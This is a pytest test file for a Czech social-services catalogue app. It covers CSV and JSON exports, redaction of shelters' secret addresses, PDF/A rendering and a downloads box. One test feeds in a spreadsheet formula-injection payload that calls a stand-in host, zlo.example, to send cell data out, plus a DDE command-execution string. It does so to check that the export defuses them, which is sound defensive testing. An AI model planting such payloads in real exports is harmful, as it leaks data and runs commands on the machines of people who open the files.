"""Open data and the printed catalogue: the public catalogue as CSV (formula-safe) and JSON
(facilities nested, never a secret address), streamed in a constant number of queries; the PDF
catalogue rendered in the background after each import, PDF/A like the plan's; the downloads box."""

import csv
import io
import json
import re

import pytest
from django.urls import reverse
from django.utils import timezone
from pypdf import PdfReader

import kpss.pdf
from catalogue.documents import CatalogueLayout, catalogue_document
from catalogue.models import ImportRun, Service
from catalogue.services import after_import, render_catalogue_pdf
from kpss.models import PdfDocument
from tests.helpers import count_queries, page_text
from tests.registry_items import facility, run, service
from tests.test_pdf import assert_archival, pdf_text, stored

ATTACK = '=HYPERLINK("http://zlo.example/?"&A1;"Klikněte")'


@pytest.fixture(autouse=True)
def _db(db):
    pass


def csv_table(response):
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(content), delimiter=";"))


def json_data(response):
    return json.loads(b"".join(response.streaming_content))


def provider(name, ico="00123456"):
    return {"ico": ico, "nazev": name, "weby": [], "emaily": [], "telefony": [{"telefon": "+420 377 000 222"}]}


@pytest.fixture
def catalogue():
    """A home for seniors with beds, a counselling service of another provider, and a shelter with a
    secret address."""
    run(
        service(1),
        service(2, type_code=1, ico="00999999", poskytovatel=provider("Poradna Lipovec, z. s.", "00999999"),
                formy=[{"forma": {"id": "FormaSocialniSluzby/amb"}, "kapacity": [
                    {"pocet": 12, "typ": {"id": "TypKapacitySocialniSluzby/klient"}}]}],
                zarizeni=[facility(name="Poradna Lipovec", street="Husova", number=3, point=222)]),
        service(3, type_code=22, ico="00888888", poskytovatel=provider("Azyl, o. p. s.", "00888888"),
                zarizeni=[facility(name="Azylový dům pro matky", secret=True, street="Tajná", number=99, point=333)]),
    )


class TestCsv:
    def test_one_row_per_public_service_with_type_provider_forms_groups_and_contacts(self, client, catalogue):
        Service.objects.filter(portal_id=2).update(withdrawn_at=timezone.now())
        response = client.get(reverse("catalogue:export_csv"))
        assert response.status_code == 200
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert response["Content-Disposition"] == 'attachment; filename="katalog-socialnich-sluzeb.csv"'
        header, *rows = csv_table(response)
        assert len(header) == 13
        assert len(rows) == 2  # the withdrawn service is not public
        home = next(row for row in rows if row[0] == "1000001")
        assert home[1] == "Domov Lipovec"
        assert home[2].startswith("§ 49")
        assert (home[3], home[4]) == ("Domov pro seniory Lipovec, p. o.", "00123456")
        assert "40" in home[5]
        assert home[6].startswith("24 ")  # code and name of the target group
        assert home[8] == "Lipovec"
        assert "socialni@domov.example" in home[9]
        assert "+420 377 000 111" in home[10]
        assert home[12].startswith(str(timezone.now().year))

    def test_a_provider_named_like_a_formula_comes_out_as_text(self, client):
        run(service(1, poskytovatel=provider(ATTACK)), service(2, ico="00222222", zarizeni=[
            facility(name="@SUM(1+1)*cmd|' /C calc'!A0")], poskytovatel=provider("-2+3", "00222222")))
        rows = csv_table(client.get(reverse("catalogue:export_csv")))[1:]
        cells = [cell for row in rows for cell in row]
        assert "'" + ATTACK in cells
        assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
        assert "'-2+3" in cells
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)

    def test_a_secret_address_gives_only_its_municipality(self, client, catalogue):
        content = b"".join(client.get(reverse("catalogue:export_csv")).streaming_content).decode("utf-8-sig")
        assert "Tajná" not in content
        assert "Azyl, o. p. s." in content


class TestJson:
    def test_services_with_facilities_nested(self, client, catalogue):
        response = client.get(reverse("catalogue:export_json"))
        assert response.status_code == 200
        assert response["Content-Type"] == "application/json; charset=utf-8"
        services = {item["registry_id"]: item for item in json_data(response)["services"]}
        assert set(services) == {"1000001", "1000002", "1000003"}
        home = services["1000001"]
        assert home["type"]["section"] == "49"
        assert home["provider"] == {"ico": "00123456", "name": "Domov pro seniory Lipovec, p. o.",
                                    "websites": ["https://domov.example"], "emails": ["info@domov.example"],
                                    "phones": ["+420 377 000 111"]}
        [form] = home["forms"]
        assert form["form"] == "pob"
        [capacity] = form["capacities"]
        assert (capacity["count"], capacity["unit"]) == (40, "luzka")
        assert capacity["unit_name"]
        assert home["target_groups"][0]["code"] == "24"
        [place] = home["facilities"]
        assert (place["street"], place["house_number"], place["municipality"]) == ("Nádražní", "12", "Lipovec")
        assert place["secret_address"] is False

    def test_a_secret_address_is_only_its_municipality_and_the_flag(self, client, catalogue):
        response = client.get(reverse("catalogue:export_json"))
        content = b"".join(response.streaming_content).decode()
        assert "Tajná" not in content
        shelter = next(item for item in json.loads(content)["services"] if item["registry_id"] == "1000003")
        assert shelter["facilities"] == [{"municipality": "Lipovec", "municipality_code": "554499",
                                          "secret_address": True}]

    def test_statutory_bodies_are_not_exported(self, client, catalogue):
        assert "Ředitelová" not in b"".join(client.get(reverse("catalogue:export_json")).streaming_content).decode()


@pytest.mark.parametrize("name", ["catalogue:export_csv", "catalogue:export_json"])
def test_the_exports_query_count_does_not_grow_with_the_catalogue(client, name):
    def fetch():
        response = client.get(reverse(name))
        return b"".join(response.streaming_content)  # the queries run while the response streams

    def add(count):
        start = Service.objects.count() + 1
        run(*[service(number, ico=f"{number:08d}", zarizeni=[facility(point=number), facility(
            name="Pobočka", point=10_000 + number)]) for number in range(start, start + count)])

    fetch()
    add(3)
    with_few = count_queries(lambda: fetch())
    add(27)
    assert Service.objects.count() == 30
    assert count_queries(lambda: fetch()) == with_few


class TestPrintedCatalogue:
    @pytest.fixture
    def rendered(self, catalogue, tasks):
        render_catalogue_pdf()
        assert tasks.run_all() == [PdfDocument.Status.READY]
        return catalogue_document()

    def test_is_pdf_a_3a_grouped_by_type_with_contents_contacts_and_fonts_embedded(self, rendered):
        content = stored(rendered)
        reader = PdfReader(io.BytesIO(content))
        assert rendered.pages == len(reader.pages) >= 3
        text = " ".join(pdf_text(content).replace("\u00a0", " ").split())
        for name in ("Domov Lipovec", "Poradna Lipovec", "Azylový dům pro matky", "Domov pro seniory Lipovec, p. o.",
                     "+420 377 000 111", "socialni@domov.example", "00123456", "1000001"):
            assert name in text
        assert "Tajná" not in text
        assert "§ 49" in text
        assert "§ 37" in text
        assert_archival(reader)
        attached = json.loads(reader.attachments["catalogue.json"][0])
        assert {item["registry_id"] for item in attached["services"]} == {"1000001", "1000002", "1000003"}
        assert "Tajná" not in reader.attachments["catalogue.json"][0].decode()

    def test_the_contents_give_each_type_its_page(self, rendered):
        reader = PdfReader(io.BytesIO(stored(rendered)))
        contents = " ".join(reader.pages[1].extract_text().replace("\u00a0", " ").split())
        assert re.search(r"§ 37 sociální poradenství \.+ 3", contents)
        assert re.search(r"§ 49 domovy pro seniory \.+ \d", contents)
        assert re.search(r"kódem 22 v registru \.+ \d", contents)  # a type the portal does not know yet

    def test_rendering_the_same_data_again_gives_the_same_file(self, rendered, tasks):
        sha256 = rendered.sha256
        render_catalogue_pdf()
        tasks.run_all()
        rendered.refresh_from_db()
        assert rendered.sha256 == sha256

    def test_is_downloaded_with_its_etag(self, rendered, client):
        response = client.get(reverse("catalogue:catalogue_pdf"))
        assert response.status_code == 200
        assert response["Content-Type"] == "application/pdf"
        assert response["ETag"] == f'"{rendered.sha256}"'
        assert b"".join(response.streaming_content) == stored(rendered)

    def test_before_it_is_rendered_the_address_says_so(self, client, catalogue, tasks):
        response = client.get(reverse("catalogue:catalogue_pdf"))
        assert response.status_code == 404
        assert "Tištěný katalog zatím není připraven" in page_text(response)
        render_catalogue_pdf()
        response = client.get(reverse("catalogue:catalogue_pdf"))
        assert response.status_code == 404
        assert "<progress" in page_text(response)  # queued: the page shows it coming

    def test_the_layout_is_for_everyone(self, catalogue):
        from kpss.models import SiteSettings

        layout = CatalogueLayout()
        assert layout.may_read(None, SiteSettings.get_solo())
        assert layout.sources() == [SiteSettings.get_solo()]


class TestAfterImport:
    def test_a_committed_import_queues_the_printed_catalogue(self, tasks, django_capture_on_commit_callbacks):
        with django_capture_on_commit_callbacks(execute=True):
            report = run(service(1))
        assert tasks.names == ["render_pdf"]
        document = catalogue_document()
        assert document.status == PdfDocument.Status.QUEUED
        assert tasks.run_all() == [PdfDocument.Status.READY]
        assert report.status == ImportRun.Status.DONE

    def test_a_dry_run_queues_nothing(self, tasks, django_capture_on_commit_callbacks):
        with django_capture_on_commit_callbacks(execute=True) as callbacks:
            run(service(1), dry_run=True)
        assert callbacks == []
        assert tasks.names == []
        assert catalogue_document() is None

    def test_nothing_follows_a_failed_or_dry_run(self, tasks):
        assert after_import(ImportRun.objects.create(source="x", status=ImportRun.Status.FAILED)) is None
        assert after_import(ImportRun.objects.create(source="x", status=ImportRun.Status.DONE, dry_run=True)) is None
        assert tasks.names == []
        done = ImportRun.objects.create(source="x", status=ImportRun.Status.DONE)
        assert after_import(done.pk).layout == CatalogueLayout.name
        assert tasks.names == ["render_pdf"]

    def test_an_unchanged_re_import_renders_nothing_again_while_the_pdf_is_there(
        self, tasks, django_capture_on_commit_callbacks,
    ):
        with django_capture_on_commit_callbacks(execute=True):
            run(service(1))
        tasks.run_all()
        with django_capture_on_commit_callbacks(execute=True):
            report = run(service(1))
        assert report.unchanged == 1
        assert tasks.names == []
        document = catalogue_document()
        document.file.delete()  # e.g. lost with the media: the next import renders it again
        with django_capture_on_commit_callbacks(execute=True):
            run(service(1))
        assert tasks.names == ["render_pdf"]

    def test_the_import_itself_does_not_render_before_commit(self, tasks, django_capture_on_commit_callbacks):
        with django_capture_on_commit_callbacks(execute=False) as callbacks:
            run(service(1))
        assert len(callbacks) == 2  # the printed catalogue, and fresh statistics for the planner
        assert tasks.names == []  # only once the data are committed


class TestDownloadsBox:
    """The list's downloads box shows the printed catalogue's state from the facts cached under the
    catalogue's revision: each change of that state moves the revision on."""

    def box(self, client):
        html = client.get(reverse("catalogue:provider_list")).content.decode().replace("\u00a0", " ")
        return html[html.index('class="catalogue-downloads"'):]

    def test_links_the_open_data_and_says_the_pdf_is_not_there_yet(self, client, catalogue):
        html = self.box(client)
        assert reverse("catalogue:export_csv") in html
        assert reverse("catalogue:export_json") in html
        assert reverse("catalogue:catalogue_pdf") not in html
        assert "(PDF, zatím není k dispozici)" in html
        assert "CSV" in html
        assert "JSON" in html

    def test_follows_the_rendering_from_queued_to_stored(self, client, catalogue, tasks, monkeypatch):
        self.box(client)  # the facts are cached before the rendering is asked for
        render_catalogue_pdf()
        assert "(PDF, připravuje se)" in self.box(client)
        real_render_source = kpss.pdf.render_source

        def rendering(*args, **kwargs):
            assert "(PDF, připravuje se)" in self.box(client)  # cached again while the worker renders
            return real_render_source(*args, **kwargs)
        monkeypatch.setattr("kpss.pdf.render_source", rendering)
        tasks.run_all()
        document = catalogue_document()
        html = self.box(client)
        assert reverse("catalogue:catalogue_pdf") in html
        assert f"{document.pages} " in html
        assert "KB" in html or "MB" in html or "kB" in html

    def test_a_failed_rendering_is_no_longer_said_to_be_on_its_way(self, client, catalogue, tasks, monkeypatch):
        render_catalogue_pdf()

        def broken(*args, **kwargs):
            assert "(PDF, připravuje se)" in self.box(client)  # cached while the worker renders
            raise OSError("disk full")
        monkeypatch.setattr("kpss.pdf.render_source", broken)
        tasks.run_all()
        assert catalogue_document().status == PdfDocument.Status.FAILED
        assert "(PDF, zatím není k dispozici)" in self.box(client)

    def test_a_deleted_document_is_no_longer_offered(self, client, catalogue, tasks):
        render_catalogue_pdf()
        tasks.run_all()
        assert reverse("catalogue:catalogue_pdf") in self.box(client)
        catalogue_document().delete()
        assert reverse("catalogue:catalogue_pdf") not in self.box(client)
